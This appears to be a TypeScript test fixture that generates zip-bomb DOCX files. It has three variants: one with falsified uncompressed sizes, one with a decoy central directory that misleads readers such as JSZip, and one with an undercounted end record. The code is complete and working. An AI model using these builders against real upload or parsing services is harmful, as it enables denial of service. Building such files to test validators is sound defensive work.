/**
 * Builds a DOCX whose `word/document.xml` inflates to `inflatedBytes` while its local header and
 * central directory both declare 1 KB (the other parts tell the truth): the zip bomb a check of
 * declared sizes lets through.
 */
import { createDeflateRaw, deflateRawSync } from 'node:zlib';

const contentTypes =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const rels =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const documentStart =
  '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>';
const documentEnd = '</w:t></w:r></w:p></w:body></w:document>';

/** `size` bytes of a text run, deflated without ever holding them: 1 MiB of the same letter at a time. */
async function deflatedText(size: number): Promise<Buffer> {
  const deflater = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflater.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve, reject) => deflater.on('end', resolve).on('error', reject));
  const letters = Buffer.alloc(1024 * 1024, 'a');
  deflater.write(documentStart);
  for (let written = 0; written < size; written += letters.length) {
    if (!deflater.write(letters.subarray(0, Math.min(letters.length, size - written)))) {
      await new Promise((resolve) => deflater.once('drain', resolve));
    }
  }
  deflater.end(documentEnd);
  await done;
  return Buffer.concat(chunks);
}

export async function lyingDocx(inflatedBytes: number): Promise<Buffer> {
  const entries = [
    { name: '[Content_Types].xml', data: deflateRawSync(contentTypes), declared: contentTypes.length },
    { name: '_rels/.rels', data: deflateRawSync(rels), declared: rels.length },
    { name: 'word/document.xml', data: await deflatedText(inflatedBytes), declared: 1024 },
  ];
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, declared } of entries) {
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(declared, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(declared, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, Buffer.from(name, 'latin1'), data);
    centrals.push(central, Buffer.from(name, 'latin1'));
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A local file header (no data) for `name`, declaring sizes `stored` and `declared`. */
function localHeader(name: string, stored: number, declared: number): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(stored, 18);
  header.writeUInt32LE(declared, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, Buffer.from(name, 'latin1')]);
}

/** A central directory entry for `name` at `offset`. */
function centralEntry(name: string, stored: number, declared: number, offset: number): Buffer {
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(20, 4);
  entry.writeUInt16LE(20, 6);
  entry.writeUInt16LE(8, 10);
  entry.writeUInt32LE(stored, 20);
  entry.writeUInt32LE(declared, 24);
  entry.writeUInt16LE(name.length, 28);
  entry.writeUInt32LE(offset, 42);
  return Buffer.concat([entry, Buffer.from(name, 'latin1')]);
}

function endOfDirectory(entries: number, size: number, offset: number): Buffer {
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  return end;
}

/**
 * A DOCX whose end record points at a decoy directory (one small entry), while the real directory
 * sits after it: zip readers that treat the gap between the two as bytes prepended to the archive (as
 * JSZip does) shift every offset and inflate the bomb, a reader that takes the offset as written sees
 * only the decoy.
 */
export async function shiftedDirectoryDocx(inflatedBytes: number): Promise<Buffer> {
  const name = 'word/document.xml';
  const small = deflateRawSync('<x/>');
  const bomb = await deflatedText(inflatedBytes);
  const decoy = Buffer.concat([localHeader(name, small.length, 4), small]);
  const decoyEntry = centralEntry(name, small.length, 4, 0);
  const gap = Math.max(decoy.length, decoyEntry.length) + 16;
  const real = Buffer.concat([localHeader(name, bomb.length, inflatedBytes), bomb]);
  const realEntry = centralEntry(name, bomb.length, inflatedBytes, 0); // relative to the shifted start
  const decoyAt = gap + real.length;
  const file = Buffer.alloc(decoyAt + gap + realEntry.length + 22);
  decoy.copy(file, 0);
  real.copy(file, gap);
  decoyEntry.copy(file, decoyAt);
  realEntry.copy(file, decoyAt + gap);
  endOfDirectory(1, realEntry.length, decoyAt).copy(file, decoyAt + gap + realEntry.length);
  return file;
}

/** A DOCX whose end record counts one entry while its directory holds a second one, the bomb. */
export async function uncountedEntryDocx(inflatedBytes: number): Promise<Buffer> {
  const small = deflateRawSync('<x/>');
  const bomb = await deflatedText(inflatedBytes);
  const first = Buffer.concat([localHeader('a.xml', small.length, 4), small]);
  const second = Buffer.concat([localHeader('word/document.xml', bomb.length, inflatedBytes), bomb]);
  const directory = Buffer.concat([
    centralEntry('a.xml', small.length, 4, 0),
    centralEntry('word/document.xml', bomb.length, inflatedBytes, first.length),
  ]);
  return Buffer.concat([first, second, directory, endOfDirectory(1, directory.length, first.length + second.length)]);
}
